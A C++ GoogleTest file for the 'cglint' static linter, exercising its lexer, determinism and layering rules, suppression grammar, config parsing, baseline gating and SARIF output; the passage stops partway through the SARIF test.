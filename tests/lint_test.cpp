// cglint tests: per-rule fixtures (positive hit, near-misses inside string
// literals and comments, suppressed hit, raw-string edge cases), the
// suppression grammar, layering-config validation, the cross-file semantic
// rules (W2/E1/M1/L2) with their name registries, baseline gating, SARIF
// output, and a self-hosting run over the real repository tree.
#include <chrono>
#include <filesystem>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "lint/config.h"
#include "lint/lexer.h"
#include "lint/linter.h"
#include "lint/sarif.h"
#include "report/json.h"

namespace {

using cg::lint::Config;
using cg::lint::LintReport;
using cg::lint::NameRegistry;
using cg::lint::SourceFile;
using cg::lint::Token;
using cg::lint::TokenKind;

// A miniature layering universe for fixtures. webplat must not include
// crawler; report may consume analysis; jsoncore is carved out of report/;
// bench is an apps-tier module (layering findings report as L2); IoStatus
// and NavigationResult results are must-check.
constexpr std::string_view kFixtureConfig = R"cfg(
path src/report/json jsoncore
deps net:
deps jsoncore:
deps webplat: net
deps analysis: net
deps crawler: webplat analysis
deps report: analysis jsoncore
deps bench: webplat
apps bench
open tests
allow D1 under bench/
restrict D3 analysis report jsoncore store obs instrument
restrict W1 store crawler examples
mustcheck IoStatus NavigationResult
metricwrap count_metric
)cfg";

const Config& fixture_config() {
  static const Config config = [] {
    std::string error;
    auto parsed = Config::parse(kFixtureConfig, &error);
    if (!parsed) ADD_FAILURE() << "fixture config: " << error;
    return parsed.value_or(Config{});
  }();
  return config;
}

// The fixture config with small enum/metric registries attached, arming the
// cross-file rules E1 and M1.
const Config& semantic_config() {
  static const Config config = [] {
    Config with_registries = fixture_config();
    std::string error;
    auto enums = NameRegistry::parse("FailureClass\n", &error);
    if (!enums) ADD_FAILURE() << "enum registry: " << error;
    auto metrics = NameRegistry::parse("crawl.sites\nio.faults.*\n", &error);
    if (!metrics) ADD_FAILURE() << "metric registry: " << error;
    if (enums) with_registries.set_enum_registry(std::move(*enums));
    if (metrics) with_registries.set_metric_registry(std::move(*metrics));
    return with_registries;
  }();
  return config;
}

LintReport run(const std::string& path, std::string_view source) {
  return lint_source(fixture_config(), path, source);
}

LintReport run_semantic(const std::string& path, std::string_view source) {
  return lint_source(semantic_config(), path, source);
}

bool has_violation(const LintReport& report, const std::string& rule,
                   int line) {
  for (const auto& violation : report.violations) {
    if (violation.rule == rule && violation.line == line) return true;
  }
  return false;
}

// ---- lexer ---------------------------------------------------------------

TEST(LexerTest, ClassifiesCommentsStringsAndCode) {
  const auto tokens = cg::lint::lex(
      "int a; // line comment\n"
      "/* block */ const char* s = \"str\";\n");
  ASSERT_FALSE(tokens.empty());
  EXPECT_EQ(tokens[0].kind, TokenKind::kIdentifier);
  EXPECT_EQ(tokens[0].text, "int");
  int comments = 0;
  int strings = 0;
  for (const Token& token : tokens) {
    if (token.kind == TokenKind::kComment) ++comments;
    if (token.kind == TokenKind::kString) ++strings;
  }
  EXPECT_EQ(comments, 2);
  EXPECT_EQ(strings, 1);
}

TEST(LexerTest, RawStringSwallowsFakeTokensAndKeepsLineNumbers) {
  const auto tokens = cg::lint::lex(
      "const char* s = R\"lit(\n"
      "  system_clock rand( std::unordered_map \"\n"
      ")lit\";\n"
      "int after;\n");
  for (const Token& token : tokens) {
    if (token.kind == TokenKind::kString) continue;
    EXPECT_NE(token.text, "system_clock");
    EXPECT_NE(token.text, "unordered_map");
    if (token.text == "after") {
      EXPECT_EQ(token.line, 4);
    }
  }
}

TEST(LexerTest, DigitSeparatorIsNotACharLiteral) {
  const auto tokens = cg::lint::lex("int x = 1'000'000; int y = 2;\n");
  // If 1'000'000 were mis-lexed, the char literal would swallow "; int y".
  bool saw_y = false;
  for (const Token& token : tokens) saw_y = saw_y || token.text == "y";
  EXPECT_TRUE(saw_y);
}

TEST(LexerTest, ParsesIncludeTargets) {
  const auto tokens = cg::lint::lex(
      "#include \"obs/trace.h\"\n#include <vector>\n");
  ASSERT_EQ(tokens.size(), 2u);
  const auto quoted = cg::lint::parse_include(tokens[0]);
  ASSERT_TRUE(quoted.has_value());
  EXPECT_EQ(quoted->path, "obs/trace.h");
  EXPECT_TRUE(quoted->quoted);
  const auto angled = cg::lint::parse_include(tokens[1]);
  ASSERT_TRUE(angled.has_value());
  EXPECT_FALSE(angled->quoted);
}

// ---- D1: wall clock ------------------------------------------------------

TEST(RuleD1Test, FlagsWallClockUse) {
  const auto report = run("src/crawler/visit.cpp",
                          "void f() {\n"
                          "  auto t = std::chrono::system_clock::now();\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D1", 2));
}

TEST(RuleD1Test, FlagsLibcTimeCallButNotMembersNamedTime) {
  const auto report = run("src/crawler/visit.cpp",
                          "void f(Event e) {\n"
                          "  auto a = time(nullptr);\n"
                          "  auto b = e.time;\n"
                          "  e.time(3);\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D1", 2));
  EXPECT_FALSE(has_violation(report, "D1", 3));
  EXPECT_FALSE(has_violation(report, "D1", 4));
}

TEST(RuleD1Test, IgnoresStringAndCommentNearMisses) {
  const auto report = run("src/crawler/visit.cpp",
                          "// system_clock would break determinism\n"
                          "const char* s = \"system_clock\";\n"
                          "/* steady_clock too */\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleD1Test, SuppressionWithReasonCountsInCensus) {
  const auto report = run(
      "src/obs/wall.cpp",
      "auto t = std::chrono::steady_clock::now();  "
      "// cglint: allow(D1) — diagnostic lane\n");
  EXPECT_TRUE(report.violations.empty());
  ASSERT_EQ(report.suppressed.size(), 1u);
  EXPECT_EQ(report.suppressed[0].violation.rule, "D1");
  EXPECT_EQ(report.suppressed[0].reason, "diagnostic lane");
  EXPECT_EQ(report.suppression_census.at("D1"), 1);
}

TEST(RuleD1Test, BenchPathIsAllowlisted) {
  const auto report = run("bench/bench_x.cpp",
                          "auto t = std::chrono::steady_clock::now();\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_TRUE(report.suppressed.empty());  // allowlisted, not suppressed
}

// ---- D2: randomness ------------------------------------------------------

TEST(RuleD2Test, FlagsRandomDeviceAndEngines) {
  const auto report = run("src/corpus/gen.cpp",
                          "std::random_device rd;\n"
                          "std::mt19937 gen(rd());\n"
                          "int r = rand();\n");
  EXPECT_TRUE(has_violation(report, "D2", 1));
  EXPECT_TRUE(has_violation(report, "D2", 2));
  EXPECT_TRUE(has_violation(report, "D2", 3));
}

TEST(RuleD2Test, IgnoresNearMissesAndMembers) {
  const auto report = run("src/corpus/gen.cpp",
                          "// no rand() here\n"
                          "const char* s = \"std::random_device\";\n"
                          "auto v = rng.rand();\n"
                          "int operand(int x);\n");
  EXPECT_TRUE(report.violations.empty());
}

// ---- D3: unordered iteration hazard --------------------------------------

// The seeded analyzer bug: an unordered candidates map in analysis code
// (src/analysis/analyzer.cpp:206 before this PR). The rule must name the
// exact declaration line.
TEST(RuleD3Test, CatchesTheSeededAnalyzerHazard) {
  const auto report = run(
      "src/analysis/analyzer.cpp",
      "void Analyzer::ingest(const VisitLog& log) {\n"
      "  std::map<std::string, Owner> owner;\n"
      "  std::unordered_map<std::string, CookiePair> candidates;\n"
      "  candidates.try_emplace(\"k\", CookiePair{});\n"
      "}\n");
  EXPECT_TRUE(has_violation(report, "D3", 3));
  EXPECT_FALSE(has_violation(report, "D3", 2));
}

TEST(RuleD3Test, OutsideRestrictedModulesOnlyIterationIsFlagged) {
  const auto lookup_only = run(
      "src/crawler/sched.cpp",
      "int hits() {\n"
      "  std::unordered_map<int, int> cache;\n"
      "  return cache.count(3);\n"
      "}\n");
  EXPECT_TRUE(lookup_only.violations.empty());

  const auto iterated = run(
      "src/crawler/sched.cpp",
      "void dump() {\n"
      "  std::unordered_map<int, int> cache;\n"
      "  for (const auto& [k, v] : cache) emit(k, v);\n"
      "}\n");
  EXPECT_TRUE(has_violation(iterated, "D3", 3));

  const auto via_begin = run(
      "src/crawler/sched.cpp",
      "void scan() {\n"
      "  std::unordered_set<int> seen;\n"
      "  auto it = seen.begin();\n"
      "}\n");
  EXPECT_TRUE(has_violation(via_begin, "D3", 3));
}

TEST(RuleD3Test, StringCommentAndRawStringNearMisses) {
  const auto report = run(
      "src/analysis/doc.cpp",
      "// unordered_map iteration order is the enemy\n"
      "const char* a = \"std::unordered_map<k,v>\";\n"
      "const char* b = R\"(for (auto& x : unordered_set))\";\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleD3Test, SuppressibleWithReason) {
  const auto report = run(
      "src/store/index.cpp",
      "void build_index() {\n"
      "  // cglint: allow(D3) — drained in sorted key order before emission\n"
      "  std::unordered_map<std::string, int> sizes;\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("D3"), 1);
}

// ---- D4: mutable static state --------------------------------------------

TEST(RuleD4Test, FlagsMutableFunctionLocalStatic) {
  const auto report = run("src/crawler/x.cpp",
                          "int f() {\n"
                          "  static int counter = 0;\n"
                          "  static const int k = 3;\n"
                          "  return ++counter + k;\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));
  EXPECT_FALSE(has_violation(report, "D4", 3));
}

TEST(RuleD4Test, FlagsConstructorCallStatics) {
  // The pre-PR test-fixture pattern: static corpus::Corpus instance(params);
  const auto report = run("src/corpus/cache.cpp",
                          "const Corpus& corpus() {\n"
                          "  static corpus::Corpus instance(params);\n"
                          "  return instance;\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));

  const auto const_ok = run("src/corpus/cache.cpp",
                            "const Corpus& corpus() {\n"
                            "  static const corpus::Corpus instance(params);\n"
                            "  return instance;\n"
                            "}\n");
  EXPECT_TRUE(const_ok.violations.empty());
}

TEST(RuleD4Test, FlagsMutableNamespaceScopeGlobals) {
  const auto report = run("src/crawler/x.cpp",
                          "namespace cg {\n"
                          "int visit_count = 0;\n"
                          "const int kLimit = 5;\n"
                          "constexpr char kName[] = \"x\";\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));
  EXPECT_FALSE(has_violation(report, "D4", 3));
  EXPECT_FALSE(has_violation(report, "D4", 4));
}

TEST(RuleD4Test, FlagsThreadLocalDefinitionNotExternDeclaration) {
  const auto definition = run("src/obs/t.cpp",
                              "thread_local LocalObs* tls_obs = nullptr;\n");
  EXPECT_TRUE(has_violation(definition, "D4", 1));

  const auto declaration = run("src/obs/t.h",
                               "extern thread_local LocalObs* tls_obs;\n");
  EXPECT_TRUE(declaration.violations.empty());
}

TEST(RuleD4Test, IgnoresStaticMemberFunctionsAndFileStaticFunctions) {
  const auto report = run(
      "src/net/url.h",
      "class Url {\n"
      " public:\n"
      "  static std::optional<Url> parse(std::string_view input);\n"
      "  static Url must_parse(std::string_view input);\n"
      "};\n"
      "static int helper(int x) { return x + 1; }\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleD4Test, FlagsMutableStaticInlineDataMember) {
  const auto report = run("src/crawler/x.h",
                          "struct Stats {\n"
                          "  static inline int live_instances = 0;\n"
                          "  static constexpr int kMax = 8;\n"
                          "};\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));
  EXPECT_FALSE(has_violation(report, "D4", 3));
}

TEST(RuleD4Test, LambdaInitializedConstStaticIsClean) {
  const auto report = run(
      "src/corpus/cache.cpp",
      "const Params& params() {\n"
      "  static const Params p = [] {\n"
      "    Params q;\n"
      "    q.site_count = 40;\n"
      "    return q;\n"
      "  }();\n"
      "  return p;\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
}

// ---- W1: unchecked ofstream ----------------------------------------------

TEST(RuleW1Test, FlagsUncheckedOfstreamInDurableOutputModules) {
  const auto report = run("src/store/dump.cpp",
                          "void dump(const std::string& path) {\n"
                          "  std::ofstream out(path);\n"
                          "  out << \"data\";\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "W1", 2));
}

TEST(RuleW1Test, HealthCheckAnywhereInTheFileClears) {
  const auto bang = run("src/store/dump.cpp",
                        "bool dump(const std::string& path) {\n"
                        "  std::ofstream out(path);\n"
                        "  out << \"data\";\n"
                        "  return !out ? false : true;\n"
                        "}\n");
  EXPECT_TRUE(bang.violations.empty());

  const auto good = run("examples/tool.cpp",
                        "bool dump(const std::string& path) {\n"
                        "  std::ofstream out(path);\n"
                        "  out << \"data\";\n"
                        "  out.flush();\n"
                        "  return out.good();\n"
                        "}\n");
  EXPECT_TRUE(good.violations.empty());
}

TEST(RuleW1Test, OnlyAppliesToRestrictedModules) {
  const auto report = run("src/obs/dump.cpp",
                          "void dump(const std::string& path) {\n"
                          "  std::ofstream out(path);\n"
                          "  out << \"data\";\n"
                          "}\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleW1Test, ReferenceParametersAreNotOwners) {
  const auto report = run("src/store/dump.cpp",
                          "void emit(std::ofstream& out) { out << 1; }\n"
                          "void emit2(std::ofstream* out) { *out << 2; }\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleW1Test, NearMissesInStringsAndComments) {
  const auto report = run(
      "src/store/dump.cpp",
      "// std::ofstream out(path) would be flagged here\n"
      "const char* s = \"std::ofstream out\";\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleW1Test, SuppressibleWithReason) {
  const auto report = run(
      "src/store/dump.cpp",
      "struct Sink {\n"
      "  // cglint: allow(W1) — every op on out_ is checked in the .cpp\n"
      "  std::ofstream out_;\n"
      "};\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("W1"), 1);
}

// ---- L1: layering --------------------------------------------------------

TEST(RuleL1Test, SeededLayeringViolationIsCaught) {
  // webplat must never include crawler: the dependency points the other way.
  const auto report = run("src/webplat/dom.cpp",
                          "#include \"webplat/dom.h\"\n"
                          "\n"
                          "#include \"crawler/crawler.h\"\n");
  EXPECT_TRUE(has_violation(report, "L1", 3));
  EXPECT_FALSE(has_violation(report, "L1", 1));  // own module is free
}

TEST(RuleL1Test, DeclaredEdgesAndOpenModulesPass) {
  const auto report_ok = run("src/report/report.cpp",
                             "#include \"analysis/analyzer.h\"\n"
                             "#include \"report/json.h\"\n");
  EXPECT_TRUE(report_ok.violations.empty());

  const auto tests_ok = run("tests/x_test.cpp",
                            "#include \"crawler/crawler.h\"\n"
                            "#include \"webplat/dom.h\"\n");
  EXPECT_TRUE(tests_ok.violations.empty());
}

TEST(RuleL1Test, PathOverrideCarvesJsoncoreOutOfReport) {
  // webplat may not include report, and indeed may not reach json either
  // (only obs may in the real config; here webplat lacks the edge).
  const auto bad = run("src/webplat/dom.cpp",
                       "#include \"report/json.h\"\n");
  EXPECT_TRUE(has_violation(bad, "L1", 1));

  // analysis → jsoncore is not declared in the fixture either, but
  // report → jsoncore is.
  const auto good = run("src/report/report.cpp",
                        "#include \"report/json.h\"\n");
  EXPECT_TRUE(good.violations.empty());
}

TEST(RuleL1Test, SuppressibleOnTheIncludeLine) {
  const auto report = run(
      "src/webplat/dom.cpp",
      "#include \"crawler/crawler.h\"  "
      "// cglint: allow(L1) — transitional; tracked in ISSUE\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("L1"), 1);
}

// ---- suppression grammar -------------------------------------------------

TEST(SuppressionTest, OwnLineAppliesToNextCodeLine) {
  const auto report = run(
      "src/crawler/x.cpp",
      "// cglint: allow(D1) — virtual deadline diagnostics only\n"
      "auto t = std::chrono::steady_clock::now();\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("D1"), 1);
}

TEST(SuppressionTest, MultiRuleAllowCoversBoth) {
  const auto report = run(
      "src/analysis/x.cpp",
      "// cglint: allow(D3,D4) — ordered drain audited in review\n"
      "static std::unordered_map<int, int> cache;\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("D3"), 1);
  EXPECT_EQ(report.suppression_census.at("D4"), 1);
}

TEST(SuppressionTest, MissingReasonIsItsOwnViolation) {
  const auto report = run(
      "src/crawler/x.cpp",
      "auto t = std::chrono::steady_clock::now();  // cglint: allow(D1)\n");
  // The D1 hit is suppressed, but the reasonless suppression fails the run.
  EXPECT_TRUE(has_violation(report, "S2", 1));
  EXPECT_EQ(report.suppression_census.at("D1"), 1);
}

TEST(SuppressionTest, MalformedAnnotationIsReported) {
  const auto report = run("src/crawler/x.cpp",
                          "// cglint: alow(D1) — typo in the verb\n");
  EXPECT_TRUE(has_violation(report, "S1", 1));
}

TEST(SuppressionTest, WrongRuleDoesNotSuppress) {
  const auto report = run(
      "src/crawler/x.cpp",
      "auto t = std::chrono::steady_clock::now();  "
      "// cglint: allow(D2) — wrong rule\n");
  EXPECT_TRUE(has_violation(report, "D1", 1));
}

// ---- config --------------------------------------------------------------

TEST(ConfigTest, RejectsCyclicLayering) {
  std::string error;
  const auto config = Config::parse(
      "deps a: b\n"
      "deps b: c\n"
      "deps c: a\n",
      &error);
  EXPECT_FALSE(config.has_value());
  EXPECT_NE(error.find("cycle"), std::string::npos);
}

TEST(ConfigTest, RejectsUndeclaredDependency) {
  std::string error;
  const auto config = Config::parse("deps a: ghost\n", &error);
  EXPECT_FALSE(config.has_value());
  EXPECT_NE(error.find("undeclared"), std::string::npos);
}

TEST(ConfigTest, RejectsUnknownKeyword) {
  std::string error;
  const auto config = Config::parse("allowrule D1 everywhere\n", &error);
  EXPECT_FALSE(config.has_value());
}

TEST(ConfigTest, ModuleMappingAndOverrides) {
  std::string error;
  const auto config = Config::parse(
      "path src/report/json jsoncore\n"
      "deps jsoncore:\n"
      "deps report: jsoncore\n",
      &error);
  ASSERT_TRUE(config.has_value()) << error;
  EXPECT_EQ(config->module_of("src/report/report.cpp"), "report");
  EXPECT_EQ(config->module_of("src/report/json.h"), "jsoncore");
  EXPECT_EQ(config->module_of("bench/bench_fig2.cpp"), "bench");
  EXPECT_EQ(config->module_of("tools/cglint.cpp"), "tools");
}

// ---- W2: must-check results ----------------------------------------------

TEST(RuleW2Test, FlagsDefinitionWithoutNodiscard) {
  const auto report = run("src/store/byte_sink.h",
                          "struct IoStatus {\n"
                          "  bool ok() const;\n"
                          "};\n");
  EXPECT_TRUE(has_violation(report, "W2", 1));

  const auto annotated = run("src/store/byte_sink.h",
                             "struct [[nodiscard]] IoStatus {\n"
                             "  bool ok() const;\n"
                             "};\n");
  EXPECT_TRUE(annotated.violations.empty());
}

TEST(RuleW2Test, FlagsDiscardedMemberCallButNotConsumedOrVoidCast) {
  const auto report = run(
      "src/store/writer.cpp",
      "struct [[nodiscard]] IoStatus { bool ok() const; };\n"
      "class FileSink {\n"
      " public:\n"
      "  IoStatus write(std::string_view bytes);\n"
      "  IoStatus flush();\n"
      "};\n"
      "bool emit(std::string_view bytes) {\n"
      "  FileSink sink;\n"
      "  sink.write(bytes);\n"
      "  (void)sink.write(bytes);\n"
      "  return sink.flush().ok();\n"
      "}\n");
  EXPECT_TRUE(has_violation(report, "W2", 9));
  EXPECT_FALSE(has_violation(report, "W2", 10));
  EXPECT_FALSE(has_violation(report, "W2", 11));
}

TEST(RuleW2Test, FlagsDiscardedFreeFunctionResult) {
  const auto report = run(
      "src/browser/browser.cpp",
      "struct [[nodiscard]] NavigationResult { bool ok() const; };\n"
      "NavigationResult navigate_home();\n"
      "void warm() {\n"
      "  navigate_home();\n"
      "  auto result = navigate_home();\n"
      "}\n");
  EXPECT_TRUE(has_violation(report, "W2", 4));
  EXPECT_FALSE(has_violation(report, "W2", 5));
}

TEST(RuleW2Test, ResolvesMemberReceiversAcrossFiles) {
  // The receiver type of `inner_` is only discoverable from the header; the
  // discard itself sits in the .cpp. This is the cross-file case the
  // pass-1 symbol index exists for.
  const std::vector<SourceFile> sources = {
      {"src/store/sink.h",
       "struct [[nodiscard]] IoStatus { bool ok() const; };\n"
       "class FileSink {\n"
       " public:\n"
       "  IoStatus write(std::string_view bytes);\n"
       "};\n"
       "class Writer {\n"
       " public:\n"
       "  IoStatus append(std::string_view bytes);\n"
       " private:\n"
       "  FileSink inner_;\n"
       "};\n"},
      {"src/store/writer_impl.cpp",
       "IoStatus Writer::append(std::string_view bytes) {\n"
       "  inner_.write(bytes);\n"
       "  return inner_.write(bytes);\n"
       "}\n"},
  };
  const auto report = lint_sources(fixture_config(), sources);
  EXPECT_TRUE(has_violation(report, "W2", 2));
  EXPECT_FALSE(has_violation(report, "W2", 3));
}

TEST(RuleW2Test, SuppressibleWithReason) {
  const auto report = run(
      "src/store/writer.cpp",
      "struct [[nodiscard]] IoStatus { bool ok() const; };\n"
      "IoStatus flush_all();\n"
      "void teardown() {\n"
      "  flush_all();  // cglint: allow(W2) — destructor path; failure is already latched\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("W2"), 1);
}

// ---- E1: taxonomy exhaustiveness -----------------------------------------

TEST(RuleE1Test, FlagsBareDefaultOverRegisteredEnum) {
  const auto report = run_semantic(
      "src/fault/classify.cpp",
      "enum class FailureClass { kNone, kDnsFailure, kConnectTimeout };\n"
      "int classify(FailureClass cls) {\n"
      "  switch (cls) {\n"
      "    case FailureClass::kNone:\n"
      "      return 0;\n"
      "    default:\n"
      "      return 1;\n"
      "  }\n"
      "}\n");
  EXPECT_TRUE(has_violation(report, "E1", 6));
}

TEST(RuleE1Test, ListsMissingEnumeratorsWhenThereIsNoDefault) {
  const auto report = run_semantic(
      "src/fault/classify.cpp",
      "enum class FailureClass { kNone, kDnsFailure, kConnectTimeout };\n"
      "int classify(FailureClass cls) {\n"
      "  switch (cls) {\n"
      "    case FailureClass::kNone:\n"
      "      return 0;\n"
      "    case FailureClass::kDnsFailure:\n"
      "      return 1;\n"
      "  }\n"
      "  return 2;\n"
      "}\n");
  ASSERT_TRUE(has_violation(report, "E1", 3));
  EXPECT_NE(report.violations[0].message.find("kConnectTimeout"),
            std::string::npos);
}

TEST(RuleE1Test, ExhaustiveSwitchAndUnregisteredEnumAreClean) {
  const auto exhaustive = run_semantic(
      "src/fault/classify.cpp",
      "enum class FailureClass { kNone, kDnsFailure };\n"
      "int classify(FailureClass cls) {\n"
      "  switch (cls) {\n"
      "    case FailureClass::kNone:\n"
      "      return 0;\n"
      "    case FailureClass::kDnsFailure:\n"
      "      return 1;\n"
      "  }\n"
      "  return 2;\n"
      "}\n");
  EXPECT_TRUE(exhaustive.violations.empty());

  // `Color` is not in the enum registry: bare defaults stay legal there.
  const auto unregistered = run_semantic(
      "src/fault/classify.cpp",
      "enum class Color { kRed, kGreen };\n"
      "int hue(Color c) {\n"
      "  switch (c) {\n"
      "    case Color::kRed:\n"
      "      return 0;\n"
      "    default:\n"
      "      return 1;\n"
      "  }\n"
      "}\n");
  EXPECT_TRUE(unregistered.violations.empty());
}

TEST(RuleE1Test, ResolvesEnumeratorListAcrossFiles) {
  const std::vector<SourceFile> sources = {
      {"src/fault/fault2.h",
       "enum class FailureClass { kNone, kDnsFailure, kConnectTimeout };\n"},
      {"src/fault/classify.cpp",
       "int classify(FailureClass cls) {\n"
       "  switch (cls) {\n"
       "    case FailureClass::kNone:\n"
       "      return 0;\n"
       "    case FailureClass::kDnsFailure:\n"
       "      return 1;\n"
       "  }\n"
       "  return 2;\n"
       "}\n"},
  };
  const auto report = lint_sources(semantic_config(), sources);
  ASSERT_TRUE(has_violation(report, "E1", 2));
  EXPECT_NE(report.violations[0].message.find("kConnectTimeout"),
            std::string::npos);
}

TEST(RuleE1Test, SuppressibleWithReason) {
  const auto report = run_semantic(
      "src/fault/classify.cpp",
      "enum class FailureClass { kNone, kDnsFailure };\n"
      "int classify(FailureClass cls) {\n"
      "  switch (cls) {\n"
      "    case FailureClass::kNone:\n"
      "      return 0;\n"
      "    // cglint: allow(E1) — forward-compat shim; new classes degrade\n"
      "    default:\n"
      "      return 1;\n"
      "  }\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("E1"), 1);
}

// ---- M1: metrics-name registry -------------------------------------------

TEST(RuleM1Test, ChecksObsHelpersAndConfiguredWrappers) {
  const auto report = run_semantic(
      "src/crawler/tick.cpp",
      "void tick(std::string_view name) {\n"
      "  obs::metric_add(\"crawl.sites\", 1);\n"
      "  obs::metric_add(\"crawl.sitez\", 1);\n"
      "  count_metric(concat(\"io.faults.\", name));\n"
      "  count_metric(concat(\"io.lost.\", name));\n"
      "}\n");
  EXPECT_FALSE(has_violation(report, "M1", 2));
  EXPECT_TRUE(has_violation(report, "M1", 3));
  EXPECT_FALSE(has_violation(report, "M1", 4));
  EXPECT_TRUE(has_violation(report, "M1", 5));
}

TEST(RuleM1Test, ReceiverAndShapeGatesSkipLookalikes) {
  const auto report = run_semantic(
      "src/crawler/tick.cpp",
      "void f(HttpHeaders& headers, MetricsRegistry& metrics) {\n"
      "  headers.add(\"Set-Cookie\", \"a=1\");\n"
      "  metrics.add(\"c\");\n"
      "  metrics.add(\"crawl.sites\");\n"
      "  metrics.add(\"crawl.oops\");\n"
      "}\n");
  EXPECT_FALSE(has_violation(report, "M1", 2));  // receiver gate
  EXPECT_FALSE(has_violation(report, "M1", 3));  // shape gate: no dot
  EXPECT_FALSE(has_violation(report, "M1", 4));
  EXPECT_TRUE(has_violation(report, "M1", 5));
}

TEST(RuleM1Test, CensusReportsUnusedRegistryEntries) {
  const auto report = lint_sources(
      semantic_config(),
      {{"src/crawler/tick.cpp",
        "void tick() { obs::metric_add(\"crawl.sites\", 1); }\n"}});
  ASSERT_EQ(report.unused_metric_entries.size(), 1u);
  EXPECT_EQ(report.unused_metric_entries[0], "io.faults.*");
}

TEST(RuleM1Test, SuppressibleWithReason) {
  const auto report = run_semantic(
      "src/crawler/tick.cpp",
      "void tick() {\n"
      "  obs::metric_add(\"crawl.scratch\", 1);  "
      "// cglint: allow(M1) — scratch fixture name, not a fleet metric\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("M1"), 1);
}

// ---- L2: apps-tier layering ----------------------------------------------

TEST(RuleL2Test, AppsTierViolationsReportAsL2NotL1) {
  const auto report = run("bench/bench_x.cpp",
                          "#include \"analysis/analyzer.h\"\n"
                          "#include \"webplat/dom.h\"\n");
  EXPECT_TRUE(has_violation(report, "L2", 1));   // analysis: undeclared edge
  EXPECT_FALSE(has_violation(report, "L1", 1));  // relabelled, not doubled
  EXPECT_FALSE(has_violation(report, "L2", 2));  // webplat: declared
}

TEST(RuleL2Test, SuppressibleOnTheIncludeLine) {
  const auto report = run(
      "bench/bench_x.cpp",
      "#include \"analysis/analyzer.h\"  "
      "// cglint: allow(L2) — transitional; tracked in ISSUE\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("L2"), 1);
}

TEST(ConfigTest, AppsModuleMustDeclareItsDeps) {
  std::string error;
  const auto config = Config::parse("deps net:\napps bench\n", &error);
  EXPECT_FALSE(config.has_value());
  EXPECT_NE(error.find("deps"), std::string::npos);
}

TEST(ConfigTest, NameRegistryMatchesExactAndWildcardEntries) {
  std::string error;
  auto registry =
      NameRegistry::parse("# comment\ncrawl.sites\nio.faults.*\n", &error);
  ASSERT_TRUE(registry.has_value()) << error;
  std::string entry;
  EXPECT_TRUE(registry->matches("crawl.sites", &entry));
  EXPECT_EQ(entry, "crawl.sites");
  EXPECT_TRUE(registry->matches("io.faults.no_space", &entry));
  EXPECT_EQ(entry, "io.faults.*");
  EXPECT_FALSE(registry->matches("crawl.sitez", nullptr));
  EXPECT_TRUE(registry->matches_prefix("io.faults.", &entry));
  EXPECT_FALSE(registry->matches_prefix("crawl.", nullptr));
}

TEST(ConfigTest, NameRegistryRejectsNonTrailingWildcards) {
  std::string error;
  EXPECT_FALSE(NameRegistry::parse("*\n", &error).has_value());
  EXPECT_FALSE(NameRegistry::parse("io.*.x\n", &error).has_value());
}

// ---- baseline gating -----------------------------------------------------

TEST(BaselineTest, ExcusesKnownFindingsButNotNewOnes) {
  const auto first = run("src/crawler/visit.cpp",
                         "auto t = std::chrono::system_clock::now();\n");
  ASSERT_EQ(first.violations.size(), 1u);
  const auto baseline =
      cg::lint::Baseline::parse(cg::lint::write_baseline_text(first));
  ASSERT_EQ(baseline.entries.size(), 1u);

  // Keys are line-number-free: the same finding shifted down the file is
  // still excused.
  auto moved = run("src/crawler/visit.cpp",
                   "\n\nauto t = std::chrono::system_clock::now();\n");
  cg::lint::apply_baseline(&moved, baseline);
  EXPECT_TRUE(moved.violations.empty());
  EXPECT_EQ(moved.baselined, 1);

  // Multiset semantics: one baseline entry excuses at most one finding, so
  // the newly introduced second hit still fails the run.
  auto grown = run("src/crawler/visit.cpp",
                   "auto t = std::chrono::system_clock::now();\n"
                   "auto u = std::chrono::system_clock::now();\n");
  cg::lint::apply_baseline(&grown, baseline);
  EXPECT_EQ(grown.violations.size(), 1u);
  EXPECT_EQ(grown.baselined, 1);
}

// ---- SARIF ---------------------------------------------------------------

TEST(SarifTest, EmitsValidSarif210Structure) {
  const auto report = run("src/crawler/visit.cpp",
                          "auto t = std::chrono::system_clock::now();\n");
  ASSERT_EQ(report.violations.size(), 1u);

  const auto parsed = cg::report::Json::parse(cg::lint::to_sarif(report));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->find("version")->as_string(), "2.1.0");

  const auto& runs = *parsed->find("runs");
  ASSERT_EQ(runs.size(), 1u);
  const auto& driver = *runs.at(0).find("tool")->find("driver");
  EXPECT_EQ(driver.find("name")->as_string(), "cglint");
  EXPECT_EQ(driver.find("rules")->size(), 14u);

  const auto& results = *runs.at(0).find("results");
  ASSERT_EQ(results.size(), 1u);
  const auto& result = results.at(0);
  EXPECT_EQ(result.find("ruleId")->as_string(), "D1");
  EXPECT_EQ(result.find("level")->as_string(), "error");
  const auto& location =
